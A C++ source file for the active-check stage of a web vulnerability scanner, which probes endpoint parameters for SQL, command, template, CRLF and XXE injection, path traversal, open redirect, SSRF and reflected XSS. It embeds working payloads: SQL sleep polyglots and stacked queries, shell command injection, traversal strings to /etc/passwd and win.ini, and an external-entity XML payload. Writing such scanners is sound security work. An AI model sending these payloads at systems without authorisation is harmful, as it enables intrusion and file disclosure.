#include "ctc/scanner/active_checks.hpp"

#include <re2/re2.h>
#include <strings.h>

#include <algorithm>
#include <map>
#include <memory>
#include <random>
#include <set>

#include "ctc/scanner/check_catalog.hpp"
#include "ctc/scanner/page_compare.hpp"
#include "ctc/scanner/request_stage.hpp"
#include "ctc/scanner/response_signatures.hpp"
#include "ctc/scanner/xss_analysis.hpp"

namespace ctc::scanner {
namespace {

constexpr int kDelaySeconds = 2;  // time-based: first delay, then twice this
constexpr std::size_t kExcerpt = 300;

/// One parameter of one endpoint under attack.
struct Target {
  const Endpoint* endpoint;
  std::size_t param;
  std::string marker;  ///< unique, alphanumeric, for this parameter only

  const Param& p() const { return endpoint->params[param]; }
  HttpRequest with(const std::string& value) const { return endpoint->requestWith(param, value); }
};

struct Baseline {
  long status = 0;
  std::string body;
  std::vector<Header> headers;
  double seconds = 0;
};

std::string excerptAround(std::string_view body, std::string_view needle) {
  auto at = body.find(needle);
  if (at == std::string_view::npos) return std::string(body.substr(0, kExcerpt));
  std::size_t from = at > kExcerpt / 2 ? at - kExcerpt / 2 : 0;
  return std::string(body.substr(from, kExcerpt));
}

bool looksLikeUrl(const std::string& v) {
  return strncasecmp(v.c_str(), "http://", 7) == 0 || strncasecmp(v.c_str(), "https://", 8) == 0;
}

bool looksRedirectable(const Param& p) {
  static const RE2 kName(
      R"((?i)^(url|uri|next|redirect|redirect_?ur[il]|return|return_?to|returnurl|goto|dest|destination|continue|target|r|u|redir|forward|callback|back)$)");
  return RE2::FullMatch(p.name, kName) || looksLikeUrl(p.value) ||
         (p.value.size() > 1 && p.value[0] == '/' && p.value[1] != '/');
}

/// A value or name that suggests a file or path (traversal is only tried there).
bool looksLikeFile(const Param& p) {
  static const RE2 kName(
      R"((?i)(file|path|page|doc|document|template|include|inc|dir|folder|load|read|view|download|img|image|name|lang|style|layout))");
  return p.value.find('.') != std::string::npos || p.value.find('/') != std::string::npos ||
         RE2::PartialMatch(p.name, kName);
}

std::string headersText(const HttpResponse& r) {
  std::string out = "HTTP " + std::to_string(r.status);
  for (const auto& [k, v] : r.headers) out += "\n" + k + ": " + v;
  return out.substr(0, 800);
}

std::pair<int, int> randomFactors(std::mt19937_64& random) {
  return {1000 + static_cast<int>(random() % 8000), 1000 + static_cast<int>(random() % 8000)};
}

/// Time-based payloads: {o} the original value, {d} the delay in seconds. The first is the
/// MySQL/MariaDB polyglot that sleeps from numeric, single- and double-quoted contexts; then
/// PostgreSQL and SQL Server stacked queries after a closing quote; the last is the shell.
constexpr const char* kTimeTemplates[] = {
    "if(now()=sysdate(),sleep({d}),0)/*'XOR(if(now()=sysdate(),sleep({d}),0))OR'\"XOR(if(now()="
    "sysdate(),sleep({d}),0))OR\"*/",
    "{o}';SELECT pg_sleep({d})--",
    "{o}';WAITFOR DELAY '0:0:{d}'--",
    "{o};sleep {d};",
};

std::string fillTemplate(std::string_view tpl, const std::string& orig, int delay) {
  std::string s(tpl);
  for (auto at = s.find("{o}"); at != std::string::npos; at = s.find("{o}", at + orig.size()))
    s.replace(at, 3, orig);
  std::string d = std::to_string(delay);
  for (auto at = s.find("{d}"); at != std::string::npos; at = s.find("{d}", at + d.size()))
    s.replace(at, 3, d);
  return s;
}

/// The page with every echo of `values` cut out (longest first), for "did it change?".
std::string withoutEchoes(long status, std::string_view body, std::vector<std::string> values) {
  static const PageComparator plain(0, "", 0, "");
  return plain.fingerprint(status, body, std::move(values));
}

bool echoedInHeaders(const std::vector<Header>& headers, const std::string& value) {
  if (value.size() < 2) return false;
  for (const auto& [name, v] : headers)
    if (v.find(value) != std::string::npos) return true;
  return false;
}

struct BooleanPayloads {
  std::string isTrue, isFalse;
};
/// Per context (numeric, quoted): the first spelling, and the second that confirms it.
std::vector<std::pair<BooleanPayloads, BooleanPayloads>> booleanPairs(const std::string& orig) {
  return {
      {{orig + " AND 4371=4371", orig + " AND 4371=4372"}, {orig + " AND 8>3", orig + " AND 3>8"}},
      {{orig + "' AND 'ctc'='ctc", orig + "' AND 'ctc'='ctd"},
       {orig + "' AND 'b'>'a", orig + "' AND 'a'>'b"}}};
}

/// The responses of one parameter's boolean test, judged against its baseline.
struct BooleanCase {
  std::shared_ptr<PageComparator> compare;
  std::map<std::string, std::pair<long, std::string>> responses;  // payload -> status, body

  std::string print(const std::string& payload, long status, std::string_view body) const {
    return compare->fingerprint(status, body, payload);
  }
  /// True page = baseline, false page != baseline (first spelling, stage 3).
  bool separates(const BooleanPayloads& p) const {
    auto t = responses.find(p.isTrue), f = responses.find(p.isFalse);
    if (t == responses.end() || f == responses.end()) return false;
    return print(p.isTrue, t->second.first, t->second.second) == compare->baseline() &&
           print(p.isFalse, f->second.first, f->second.second) != compare->baseline();
  }
  /// A later response to `payload`: a true page equals the baseline, a false one the page of
  /// the first spelling's false condition `firstFalse`.
  bool matches(const std::string& payload, bool expectTrue, const std::string& firstFalse,
               long status, std::string_view body) const {
    std::string p = print(payload, status, body);
    if (expectTrue) return p == compare->baseline();
    auto f = responses.find(firstFalse);
    return f != responses.end() && print(firstFalse, f->second.first, f->second.second) == p;
  }
};

}  // namespace

std::string describeRequest(const HttpRequest& r) {
  std::string out = r.method + " " + r.url;
  for (const auto& [k, v] : r.headers) out += "\n" + k + ": " + v;
  if (!r.body.empty()) out += "\n\n" + r.body;
  return out;
}

void runActiveChecks(const std::vector<Endpoint>& endpoints, Fetcher& fetcher,
                     FindingCollector& findings, const ActiveCheckOptions& options,
                     const Fetcher::OnDone& onEach) {
  if (endpoints.empty()) return;
  auto stopped = [&] { return options.stop && options.stop(); };
  auto report = [&](std::string_view check, const Target& t, const HttpRequest& request,
                    std::string response) {
    Finding f = makeFinding(check, t.endpoint->url, t.p().name, t.endpoint->method);
    f.evidenceRequest = describeRequest(request);
    f.evidenceResponse = std::move(response);
    findings.add(std::move(f));
  };
  auto runStage = [&](RequestStage& stage) {
    if (stopped()) return;
    if (options.onPlanned) options.onPlanned(static_cast<int>(stage.size()));
    stage.run(fetcher, onEach);
  };

  std::mt19937_64 random{std::random_device{}()};
  std::vector<Target> targets;
  for (const auto& e : endpoints)
    for (std::size_t i = 0; i < e.params.size(); ++i) {
      char marker[16];
      std::snprintf(marker, sizeof marker, "ctc%08llx",
                    static_cast<unsigned long long>(random() & 0xffffffffu));
      targets.push_back({&e, i, marker});
    }

  // Stage 1: each endpoint as the crawler would send it.
  std::map<const Endpoint*, Baseline> baselines;
  {
    RequestStage stage;
    for (const auto& e : endpoints)
      stage.add(e.request(), [&baselines, &e](const FetchResult& r) {
        baselines[&e] = {r.response.status, r.response.body, r.response.headers,
                         r.response.seconds};
      });
    runStage(stage);
  }
  auto baseOf = [&](const Target& t) -> const Baseline* {
    auto it = baselines.find(t.endpoint);
    return it == baselines.end() ? nullptr : &it->second;  // failed baselines are not stored
  };

  // Stage 2: one round of probes per parameter; what they reveal decides stage 3.
  std::map<std::size_t, std::vector<Reflection>> reflections;
  std::set<std::size_t> booleanCandidates;                   // the quote changed the page
  std::map<std::size_t, std::vector<std::string>> timeHits;  // payload templates that slept
  std::set<std::size_t> sstiHits;
  RequestStage probes;
  for (std::size_t ti = 0; ti < targets.size(); ++ti) {
    const Target& t = targets[ti];
    const Baseline* base = baseOf(t);
    if (!base) continue;
    const std::string& orig = t.p().value;
    // Reflection probe, which also carries a template expression: the product of two random
    // numbers does not appear in a page by chance.
    {
      auto [a, b] = randomFactors(random);
      std::string product = std::to_string(a * b),
                  expr = std::to_string(a) + "*" + std::to_string(b);
      HttpRequest req = t.with(t.marker + "{{" + expr + "}}${" + expr + "}<%=" + expr + "%>");
      probes.add(req, [&, ti, product, base](const FetchResult& r) {
        if (r.response.isHtml())
          reflections[ti] = findReflections(r.response.body, targets[ti].marker);
        if (r.response.body.find(product) != std::string::npos &&
            base->body.find(product) == std::string::npos)
          sstiHits.insert(ti);
      });
    }
    if (t.p().location == ParamLocation::Path) continue;  // paths: reflection checks only

    // SQL error: a quote of each kind; the DBMS message must be new. Otherwise, if the quotes
    // changed the page beyond echoing them, the boolean check has something to measure.
    HttpRequest sqlProbe = t.with(orig + "'\"");
    probes.add(sqlProbe, [&, ti, sqlProbe, base, orig](const FetchResult& r) {
      if (auto m = findSqlError(r.response.body); m && !findSqlError(base->body)) {
        report("sqli.error", targets[ti], sqlProbe, m->what + " error: " + m->excerpt);
        return;
      }
      std::string probeValue = orig + "'\"";
      if (withoutEchoes(r.response.status, r.response.body, {probeValue, orig}) !=
          withoutEchoes(base->status, base->body, {orig}))
        booleanCandidates.insert(ti);
    });
    // Command injection: the shell joins X''Y into XY; an echo of our own text does not.
    std::string joined = t.marker + "x" + t.marker;
    for (std::string_view sep : {";", "$("}) {
      std::string payload = orig + std::string(sep) + "echo " + t.marker + "x''" + t.marker +
                            (sep == "$(" ? ")" : "");
      HttpRequest req = t.with(payload);
      probes.add(req, [&, ti, req, joined, base](const FetchResult& r) {
        if (r.response.body.find(joined) != std::string::npos &&
            base->body.find(joined) == std::string::npos)
          report("injection.command", targets[ti], req,
                 "the shell ran echo: " + excerptAround(r.response.body, joined));
      });
    }
    if (looksLikeFile(t.p())) {
      std::vector<std::string> files = {"../../../../../../../../../../etc/passwd",
                                        "..\\..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
                                        "/etc/passwd"};
      for (const auto& file : files) {
        HttpRequest req = t.with(file);
        probes.add(req, [&, ti, req, base](const FetchResult& r) {
          if (auto m = findFileContent(r.response.body); m && !findFileContent(base->body))
            report("files.path_traversal", targets[ti], req,
                   "contents of " + m->what + ": " + m->excerpt);
        });
      }
    }
    // CRLF: where the value already lands in a response header, a header of our own.
    if (echoedInHeaders(base->headers, orig)) {
      std::string header = "X-Ctc-" + t.marker;
      HttpRequest req = t.with(orig + "\r\n" + header + ": injected");
      probes.add(req, [&, ti, req, header](const FetchResult& r) {
        if (r.response.header(header))
          report(
              "injection.crlf", targets[ti], req,
              "response header " + header + " was set by the request: " + headersText(r.response));
      });
    }
    if (looksRedirectable(t.p())) {
      std::string host = t.marker + ".invalid";  // RFC 6761: never resolves, never reached
      HttpRequest req = t.with("https://" + host + "/");
      probes.add(req, [&, ti, req, host](const FetchResult& r) {
        auto location = r.response.header("Location");
        if (r.response.status < 300 || r.response.status > 399 || !location) return;
        auto resolved = resolveReference(r.request.url, *location);
        if (resolved && equalsIgnoreCase(resolved->host, host))
          report("redirect.open", targets[ti], req,
                 "HTTP " + std::to_string(r.response.status) + " Location: " + *location);
      });
    }
    if ((!orig.empty() && orig.front() == '<') ||
        strcasestr(t.p().name.c_str(), "xml") != nullptr) {
      for (const char* file : {"file:///etc/passwd", "file:///c:/windows/win.ini"}) {
        HttpRequest req =
            t.with(std::string("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY ctc SYSTEM \"") +
                   file + "\">]><r>&ctc;</r>");
        probes.add(req, [&, ti, req, base](const FetchResult& r) {
          if (auto m = findFileContent(r.response.body); m && !findFileContent(base->body))
            report("xxe.external_entity", targets[ti], req,
                   "contents of " + m->what + " through an external entity: " + m->excerpt);
        });
      }
    }
    if (looksLikeUrl(orig) && !options.siteRootUrl.empty()) {
      HttpRequest req = t.with(options.siteRootUrl);
      const std::string& title = options.siteRootTitle;
      probes.add(req, [&, ti, req, base, title, orig](const FetchResult& r) {
        bool fetched = !title.empty() && r.response.body.find(title) != std::string::npos &&
                       base->body.find(title) == std::string::npos;
        if (fetched)
          report("ssrf.confirmed", targets[ti], req,
                 "the response contains the title of " + options.siteRootUrl + " (\"" + title +
                     "\"), which the server fetched: " + excerptAround(r.response.body, title));
        else
          report("ssrf.candidate", targets[ti], targets[ti].endpoint->request(),
                 "parameter value is a URL: " + orig);
      });
    }
    if (options.timeBased && base->seconds < kDelaySeconds / 2.0) {
      for (const char* tpl : kTimeTemplates) {
        HttpRequest req = t.with(fillTemplate(tpl, orig, kDelaySeconds));
        probes.add(req, [&, ti, tpl](const FetchResult& r) {
          if (r.response.seconds >= kDelaySeconds) timeHits[ti].push_back(tpl);
        });
      }
    }
  }
  runStage(probes);

  // Stage 3: payloads for the reflections found, confirmations, the first boolean pairs.
  RequestStage second;
  std::map<std::size_t, BooleanCase> booleans;
  for (std::size_t ti = 0; ti < targets.size(); ++ti) {
    const Target& t = targets[ti];
    const Baseline* base = baseOf(t);
    if (!base) continue;
    for (const auto& where : reflections[ti])
      for (const auto& payload : xssPayloads(where, t.marker)) {
        HttpRequest req = t.with(payload);
        second.add(req, [&, ti, req](const FetchResult& r) {
          if (!r.response.isHtml()) return;
          if (auto proof = provenXss(r.response.body, targets[ti].marker); !proof.empty())
            report("xss.reflected", targets[ti], req,
                   "the payload became executable markup: " + proof);
        });
      }
    if (sstiHits.count(ti)) {
      auto [a, b] = randomFactors(random);
      std::string product = std::to_string(a * b);
      HttpRequest req =
          t.with(t.p().value + "{{" + std::to_string(a) + "*" + std::to_string(b) + "}}");
      second.add(req, [&, ti, req, product](const FetchResult& r) {
        if (r.response.body.find(product) != std::string::npos)
          report("injection.ssti", targets[ti], req,
                 "the template evaluated the expression to " + product +
                     " (twice, with "
                     "different numbers): " +
                     excerptAround(r.response.body, product));
      });
    }
    if (auto hit = timeHits.find(ti); hit != timeHits.end()) {
      std::string_view tpl = hit->second.front();
      HttpRequest req = t.with(fillTemplate(tpl, t.p().value, 2 * kDelaySeconds));
      bool shell = tpl.find("sleep {d};") != std::string_view::npos;
      double baseSeconds = base->seconds;
      second.add(req, [&, ti, req, shell, baseSeconds](const FetchResult& r) {
        if (r.response.seconds < 2 * kDelaySeconds) return;
        report(shell ? "injection.command" : "sqli.time", targets[ti], req,
               "asked for " + std::to_string(kDelaySeconds) + " s, then " +
                   std::to_string(2 * kDelaySeconds) + " s of delay: both came (this one took " +
                   std::to_string(r.response.seconds) + " s); the baseline took " +
                   std::to_string(baseSeconds) + " s");
      });
    }
    if (!booleanCandidates.count(ti)) continue;
    second.add(t.endpoint->request(), [&, ti, base](const FetchResult& r) {
      booleans[ti].compare = std::make_shared<PageComparator>(
          base->status, base->body, r.response.status, r.response.body, targets[ti].p().value);
    });
    for (const auto& pair : booleanPairs(t.p().value))
      for (const auto& payload : {pair.first.isTrue, pair.first.isFalse})
        second.add(t.with(payload), [&, ti, payload](const FetchResult& r) {
          booleans[ti].responses[payload] = {r.response.status, r.response.body};
        });
  }
  runStage(second);

  // Stage 4: where a true condition kept the page and a false one changed it, the other
  // spelling of the same context and a repeat of the first pair must agree.
  RequestStage third;
  for (auto& entry : booleans) {
    const std::size_t ti = entry.first;  // not a structured binding: lambdas capture it
    BooleanCase& c = entry.second;
    if (!c.compare || !c.compare->stable()) continue;
    const Target& t = targets[ti];
    for (const auto& pair : booleanPairs(t.p().value)) {
      if (!c.separates(pair.first)) continue;
      auto verdicts = std::make_shared<int>(0);
      auto check = [&report, &targets, ti, cPtr = &c, verdicts, pair](
                       const std::string& payload, bool expectTrue, const FetchResult& r) {
        const Target& target = targets[ti];
        if (cPtr->matches(payload, expectTrue, pair.first.isFalse, r.response.status,
                          r.response.body) &&
            ++*verdicts == 4)
          report("sqli.boolean", target, target.with(pair.first.isFalse),
                 "a true condition keeps the page and a false one changes it, in two "
                 "spellings and on a repeat (true: " +
                     describeRequest(target.with(pair.first.isTrue)) +
                     "; second spelling: " + pair.second.isTrue + " / " + pair.second.isFalse +
                     "); false page: " + std::string(r.response.body.substr(0, kExcerpt)));
      };
      for (const auto& step :
           {std::pair{pair.second.isTrue, true}, std::pair{pair.second.isFalse, false},
            std::pair{pair.first.isTrue, true}, std::pair{pair.first.isFalse, false}})
        third.add(t.with(step.first),
                  [check, step](const FetchResult& r) { check(step.first, step.second, r); });
      break;
    }
  }
  runStage(third);
}

}  // namespace ctc::scanner
